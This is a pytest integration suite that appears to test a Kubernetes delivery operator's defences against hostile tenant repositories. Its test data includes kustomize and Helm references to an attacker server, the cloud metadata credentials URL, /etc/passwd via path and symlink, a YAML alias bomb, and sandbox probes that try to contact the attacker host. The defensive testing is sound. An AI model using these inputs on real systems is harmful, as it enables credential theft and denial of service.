"""A hostile tenant's repository content: kustomizations and charts that name URLs (the
attacker's host, a cloud metadata address), other repositories or the operator's files; symlinks
out of the repository; alias bombs, huge files and huge repositories. Against the real operator
process with one real member cluster: each attack leaves the app Stalled with a message naming
file and field (or the limit), the attacker receives nothing, and nothing reaches the member.
"""

from __future__ import annotations

import asyncio
import base64
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from lightkube import Client, KubeConfig
from lightkube.resources.core_v1 import Secret

from hybridcloud.controlplane import ControlPlane
from hybridcloud.delivery import sandbox
from hybridcloud.delivery.render import run_tool
from hybridcloud.kube.resources import HybridClusterResource, MultiClusterApplicationResource

from ..integration.harness import (
    OperatorProcess,
    condition,
    delivery_operator,
    eventually,
    fresh_namespace,
    wait_phase,
)
from ..integration.test_application_delivery import Repo, owned_anything
from .attacker import RecordingServer

pytestmark = pytest.mark.integration
METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
CONFIG_MAP = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {a: b}\n"


@pytest.fixture(scope="module")
def tenant(kube: Client) -> Iterator[str]:
    with fresh_namespace(kube, "render-attack") as name:
        yield name


@pytest.fixture(scope="module")
def operator(management: ControlPlane, tenant: str, bin_dir: Path,
             tmp_path_factory: pytest.TempPathFactory) -> Iterator[OperatorProcess]:
    """Small limits, so that the exhaustion attacks are cheap to play."""
    with delivery_operator(management.kubeconfig, tenant, tmp_path_factory.mktemp("operator"),
                           HYBRIDCLOUD_BIN_DIR=str(bin_dir),
                           HYBRIDCLOUD_OPERATOR_GIT_MAX_FETCH_BYTES=str(6 * 2**20),
                           HYBRIDCLOUD_OPERATOR_GIT_MAX_TREE_BYTES=str(2**20),
                           HYBRIDCLOUD_OPERATOR_RENDER_MAX_YAML_NODES="100000") as process:
        yield process


@pytest.fixture(scope="module")
def member(kube: Client, tenant: str, operator: OperatorProcess) -> Client:
    """One Active `local` cluster, "solo": renders only happen once placement is ready."""
    kube.create(HybridClusterResource.from_dict({
        "apiVersion": "platform.example.com/v1", "kind": "HybridCluster",
        "metadata": {"name": "solo"},
        "spec": {"provider": "local", "version": "v1.37.2", "region": "local-a",
                 "nodeGroups": [{"name": "workers", "size": 1}]}}), namespace=tenant)
    wait_phase(kube, tenant, "solo", "Active", operator, timeout=180)
    secret = kube.get(Secret, name="solo-kubeconfig", namespace=tenant)
    text = base64.b64decode((secret.data or {})["value"]).decode()
    return Client(config=KubeConfig.from_dict(yaml.safe_load(text)), field_manager="tests")


def deploy(kube: Client, tenant: str, tmp_path: Path, files: dict[str, str | bytes],
           path: str = "app", links: dict[str, str] | None = None) -> tuple[str, str]:
    """A repository with ``files`` (and symlinks ``links``) deployed to "solo"; (name, uid)."""
    root = tmp_path / uuid.uuid4().hex[:6]
    root.mkdir()
    repo = Repo(root)
    for name, data in files.items():
        target = repo.work / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
    for name, target_path in (links or {}).items():
        (repo.work / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target_path, repo.work / name)
    repo.commit({})
    name = f"app-{uuid.uuid4().hex[:8]}"
    created = kube.create(MultiClusterApplicationResource.from_dict({
        "apiVersion": "platform.example.com/v1", "kind": "MultiClusterApplication",
        "metadata": {"name": name},
        "spec": {"source": {"type": "git", "repository": repo.url, "path": path,
                            "revision": "main"},
                 "targetNamespace": name, "placement": [{"cluster": "solo"}]}}),
        namespace=tenant)
    return name, str(created.metadata.uid)


def stalled(kube: Client, tenant: str, name: str, operator: OperatorProcess) -> dict[str, Any]:
    def probe() -> dict[str, Any] | None:
        obj = kube.get(MultiClusterApplicationResource, name, namespace=tenant).to_dict()
        if (condition(obj, "Stalled") or {}).get("status") == "True":
            return dict(condition(obj, "Synced") or {})
        return None

    return eventually(probe, timeout=60, message=lambda: (
        f"{name} never Stalled: "
        f"{kube.get(MultiClusterApplicationResource, name, namespace=tenant).to_dict()}"
        f"\n{operator.tail(30)}"))


# -- every path-bearing kustomize field -----------------------------------------------------------

FIELDS = {
    "resources": "resources:\n  - {url}\n",
    "components": "components:\n  - {url}\n",
    "bases": "bases:\n  - {url}\n",
    "crds": "crds:\n  - {url}\n",
    "configurations": "configurations:\n  - {url}\n",
    "generators": "generators:\n  - {url}\n",
    "transformers": "transformers:\n  - {url}\n",
    "validators": "validators:\n  - {url}\n",
    "files": "configMapGenerator:\n  - name: c\n    files:\n      - {url}\n",
    "envs": "secretGenerator:\n  - name: s\n    envs:\n      - {url}\n",
    "env": "configMapGenerator:\n  - name: c\n    env: {url}\n",
    "path": "patches:\n  - path: {url}\n",
    "patchesStrategicMerge": "patchesStrategicMerge:\n  - {url}\n",
}


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_every_kustomize_path_field_naming_the_attackers_host_is_refused(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        attacker: RecordingServer, tmp_path: Path, field: str) -> None:
    url = f"{attacker.url}/loot/{field}"
    name, uid = deploy(kube, tenant, tmp_path, {
        "app/kustomization.yaml": FIELDS[field].format(url=url), "app/cm.yaml": CONFIG_MAP})
    synced = stalled(kube, tenant, name, operator)
    assert synced["reason"] == "RenderFailed"
    assert synced["message"].startswith("app/kustomization.yaml:")
    assert f"{field}: remote reference {url!r} is not allowed" in synced["message"]
    assert attacker.requests == [], "the attacker's host was contacted"
    assert owned_anything(member, uid) == []


@pytest.mark.parametrize(("entry", "said"), [
    (METADATA, "remote reference"),
    ("https://{host}/x.yaml", "remote reference"),
    ("//{host}/x.yaml", "remote reference"),
    ("git::{url}/repo.git", "remote reference"),
    ("github.com/org/repo/deploy", "remote reference"),
    ("file:///etc/passwd", "remote reference"),
    ("/etc/passwd", "absolute path"),
    ("../../other-repo/secret.yaml", "leaves the repository"),
])
def test_url_forms_and_outside_paths_in_resources_are_refused(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        attacker: RecordingServer, tmp_path: Path, entry: str, said: str) -> None:
    host = attacker.url.removeprefix("http://")
    value = entry.format(host=host, url=attacker.url)
    name, uid = deploy(kube, tenant, tmp_path, {
        "app/kustomization.yaml": f"resources:\n  - cm.yaml\n  - {value}\n",
        "app/cm.yaml": CONFIG_MAP,
        # A local folder of that name changes nothing: the reference is still refused.
        "app/github.com/org/repo/deploy/kustomization.yaml": "resources: []\n"})
    synced = stalled(kube, tenant, name, operator)
    assert synced["message"].startswith("app/kustomization.yaml:3: resources: ")
    assert said in synced["message"]
    assert attacker.requests == []
    assert owned_anything(member, uid) == []


def test_a_symlink_to_the_operators_files_fails_the_export_naming_it(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        tmp_path: Path) -> None:
    name, uid = deploy(kube, tenant, tmp_path, {
        "app/kustomization.yaml": "configMapGenerator:\n  - name: c\n    files: [passwd]\n"},
        links={"app/passwd": "/etc/passwd"})
    synced = stalled(kube, tenant, name, operator)
    assert synced["reason"] == "InvalidSource"
    assert synced["message"].startswith("app/passwd (commit ")
    assert "points outside the repository" in synced["message"]
    trees = operator.workdir / "delivery" / "git" / "trees"
    assert not [p for p in trees.rglob("*") if "." in p.name and p.parent.parent == trees], \
        "a staging folder was left behind"
    assert owned_anything(member, uid) == []


def test_a_chart_with_a_remote_dependency_is_refused_and_nothing_is_downloaded(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        attacker: RecordingServer, tmp_path: Path) -> None:
    name, uid = deploy(kube, tenant, tmp_path, {
        "app/Chart.yaml": "apiVersion: v2\nname: web\nversion: 0.1.0\ndependencies:\n"
                          f"  - name: loot\n    version: 1.0.0\n    repository: {attacker.url}\n",
        "app/templates/cm.yaml": CONFIG_MAP})
    synced = stalled(kube, tenant, name, operator)
    assert synced["message"].startswith("Chart.yaml:5: dependencies[0] 'loot'")
    assert "is not vendored under charts/" in synced["message"]
    assert attacker.requests == []
    assert owned_anything(member, uid) == []


# -- resource exhaustion -------------------------------------------------------------------------

BOMB = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n" \
    "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{level}: &{level} [{', '.join([f'*{previous}'] * 10)}]\n"
        for previous, level in zip("abcdefgh", "bcdefghi", strict=True))


def test_an_alias_bomb_is_refused_before_it_is_expanded(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        tmp_path: Path) -> None:
    name, uid = deploy(kube, tenant, tmp_path, {"app/bomb.yaml": BOMB, "app/cm.yaml": CONFIG_MAP})
    synced = stalled(kube, tenant, name, operator)
    assert synced["reason"] == "RenderFailed"
    assert synced["message"].startswith("bomb.yaml:1: YAML expands to more than the limit "
                                        "HYBRIDCLOUD_OPERATOR_RENDER_MAX_YAML_NODES=100000")
    assert operator.process.poll() is None, "the operator survived"
    assert owned_anything(member, uid) == []


def test_a_huge_file_is_refused_by_the_tree_size_limit(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        tmp_path: Path) -> None:
    name, uid = deploy(kube, tenant, tmp_path, {"app/cm.yaml": CONFIG_MAP,
                                                "app/huge.bin": os.urandom(2 * 2**20)})
    synced = stalled(kube, tenant, name, operator)
    assert synced["reason"] == "LimitExceeded"
    assert "HYBRIDCLOUD_OPERATOR_GIT_MAX_TREE_BYTES=1048576" in synced["message"]
    assert owned_anything(member, uid) == []


def test_a_huge_repository_is_refused_by_the_fetch_limit_and_its_mirror_dropped(
        kube: Client, tenant: str, operator: OperatorProcess, member: Client,
        tmp_path: Path) -> None:
    name, uid = deploy(kube, tenant, tmp_path, {"app/cm.yaml": CONFIG_MAP,
                                                "blob.bin": os.urandom(8 * 2**20)})
    synced = stalled(kube, tenant, name, operator)
    assert synced["reason"] == "LimitExceeded"
    assert "HYBRIDCLOUD_OPERATOR_GIT_MAX_FETCH_BYTES=6291456" in synced["message"]
    mirrors = operator.workdir / "delivery" / "git" / "repos"
    assert all(sum(f.stat().st_size for f in m.rglob("*") if f.is_file()) < 6 * 2**20
               for m in mirrors.glob("*.git")), "the oversized mirror was kept"
    assert owned_anything(member, uid) == []


# -- the renderers' sandbox ------------------------------------------------------------------------

def test_renderers_run_without_network_or_inherited_credentials(
        attacker: RecordingServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What kubectl kustomize and helm template run under: a process trying to reach the
    attacker directly (ignoring proxies) gets nowhere, and sees no credentials of the operator."""
    if not sandbox.isolation():
        pytest.skip("no network namespace here (unshare refused); the fallback is tested below")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "operator-cloud-secret")
    monkeypatch.setenv("KUBECONFIG", "/operator/kubeconfig")
    probe = ("import os, socket\n"
             "print(sorted(os.environ))\n"
             f"socket.create_connection(('127.0.0.1', {attacker.url.rsplit(':', 1)[1]}), 3)\n")
    code, out, err = asyncio.run(run_tool(
        ["python3", "-c", probe], env=sandbox.environment(tmp_path), limit=30,
        origin="probe", what="probe"))
    assert code != 0 and b"Network is unreachable" in err, err
    seen = out.decode()
    assert "AWS_SECRET_ACCESS_KEY" not in seen and "KUBECONFIG" not in seen
    assert attacker.requests == []


def test_without_a_network_namespace_http_clients_are_sent_to_a_closed_proxy(
        attacker: RecordingServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The documented fallback: HTTP clients honouring proxy variables (Go's, as in helm and
    kustomize; Python's here) reach nothing."""
    monkeypatch.setattr(sandbox, "isolation", lambda: ())
    probe = f"import urllib.request\nurllib.request.urlopen('{attacker.url}/loot', timeout=5)\n"
    code, _, err = asyncio.run(run_tool(
        ["python3", "-c", probe], env=sandbox.environment(tmp_path), limit=30,
        origin="probe", what="probe"))
    assert code != 0 and b"Connection refused" in err, err
    assert attacker.requests == []
